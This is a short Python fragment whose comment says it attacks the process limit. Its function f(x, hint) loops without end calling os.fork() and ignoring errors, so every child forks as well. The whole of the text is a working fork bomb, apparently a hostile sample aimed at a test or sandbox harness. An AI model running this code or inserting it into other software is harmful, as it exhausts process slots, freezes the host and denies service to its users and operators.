# Attacks the process limit: forks without end; every child forks too.
import os


def f(x, hint):
    while True:
        try:
            os.fork()
        except OSError:
            pass
